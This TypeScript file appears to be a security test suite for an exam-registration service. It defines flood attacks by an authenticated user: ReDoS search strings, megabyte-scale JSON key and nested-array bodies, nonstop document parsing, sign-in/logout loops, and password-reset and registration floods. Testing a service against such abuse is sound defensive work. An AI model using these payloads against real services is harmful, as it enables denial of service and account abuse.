import { randomBytes } from 'node:crypto';
import { Connection } from '../people/connection.ts';
import { type Attack, attackerAddresses, flood, type Target } from './hostile-client.ts';
import type { KnownToAttackers } from './known-to-attackers.ts';

const MB = 1024 * 1024;
const text = (bytes: number): string => randomBytes(Math.ceil(bytes / 2)).toString('hex');
const json = (value: unknown): string => JSON.stringify(value);
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

/** A megabyte of unknown keys: a refusal used to name each, which took a second of CPU time. */
function manyKeys(): string {
  const keys = Array.from({ length: MB / 12 }, (_, index) => `"${String(index).padStart(7, 'k')}":0`);
  return `{"seq":1,"answers":{${keys.join(',')}}}`;
}

/** Nested arrays: four such bodies once took the service 22 s and 1.6 GB. */
const nestedArrays = (bytes: number): string => `{"documents":[[]${',[]'.repeat(bytes / 3)}]}`;

/** Signs in a candidate with a practice exam, which does not depend on exams by staff. */
async function practising(
  { url }: Target,
  { examinee }: KnownToAttackers,
): Promise<{ token: string; practice: string }> {
  const connection = new Connection(url.origin);
  const body = { email: examinee.email, SerialNumber: examinee.serialNumber };
  const signIn = await connection.call<{ token: string }>('POST', '/api/exams/StartStudentExam', body);
  connection.token = signIn.body.token;
  const begun = await connection.call<{ _id: string }>('POST', '/api/exams/practice');
  connection.close();
  return { token: connection.token, practice: begun.body._id };
}

/** Expensive calls by somebody with an account. */
export const fromWithin: Attack[] = [
  {
    name: 'worst searches of a signed-in account',
    run: (target, { token }) => {
      const words = ['a '.repeat(100), '(a+)+$'.repeat(15), '.*'.repeat(50), 'e', text(100)];
      return flood(target, 10, attackerAddresses(1), (count) => ({
        method: 'GET',
        path: `/api/student?search=${encodeURIComponent(words[count % words.length] ?? '')}&pageSize=100`,
        headers: bearer(token),
      }));
    },
  },
  {
    name: 'sheets and documents asked for without end',
    run: (target, { token, examinee, sheet }) => {
      const headers = bearer(token);
      const print = json({ kind: 'registration-form', id: examinee._id });
      return flood(target, 10, attackerAddresses(1), (count) =>
        count % 2 === 0
          ? { path: '/api/exams/parse-sheet', headers: { ...headers, ...sheet.headers }, body: sheet.body }
          : { path: '/api/media/documents', headers, body: print },
      );
    },
  },
  {
    name: "saves of a megabyte of keys from a candidate's practice exam",
    run: async (target, known) => {
      const { token, practice } = await practising(target, known);
      const body = manyKeys();
      await flood(target, 4, attackerAddresses(1), () => ({
        method: 'PUT',
        path: `/api/exams/practice/${practice}/answers`,
        headers: { 'content-type': 'application/json', ...bearer(token) },
        body,
      }));
    },
  },
  {
    name: 'heartbeats of a candidate without a pause',
    run: async (target, known) => {
      const { token, practice } = await practising(target, known);
      await flood(target, 20, attackerAddresses(1), () => ({
        method: 'PUT',
        path: `/api/exams/practice/${practice}/answers`,
        headers: { 'content-type': 'application/json', ...bearer(token) },
        body: '{}',
      }));
    },
  },
  {
    name: 'a candidate who signs in and out without end',
    run: async (target, known) => {
      const { examinee } = known;
      const { token } = await practising(target, known);
      const signIn = json({ email: examinee.email, SerialNumber: examinee.serialNumber });
      await flood(target, 8, attackerAddresses(1), (count) =>
        count % 2 === 0
          ? { path: '/api/exams/StartStudentExam', body: signIn }
          : { path: '/api/auth/logout', headers: bearer(token) },
      );
    },
  },
  {
    name: '17 MB of arrays as the correction of an applicant',
    run: (target, { token, examinee }) => {
      const body = nestedArrays(17 * MB);
      return flood(target, 4, attackerAddresses(1), () => ({
        method: 'PATCH',
        path: `/api/student/${examinee._id}`,
        headers: { 'content-type': 'application/json', ...bearer(token) },
        body,
      }));
    },
  },
  {
    name: 'passwords asked for and taken e-mails signed up from ten networks',
    run: (target, { officer }) =>
      flood(target, 10, attackerAddresses(10), (count) =>
        count % 2 === 0
          ? { path: '/api/auth/forgot', body: json({ email: `nobody-${text(8)}@flood.example` }) }
          : {
              path: '/api/auth/register',
              body: json({ username: `flood${count % 1000}`, email: officer.email, password: text(10) }),
            },
      ),
  },
];
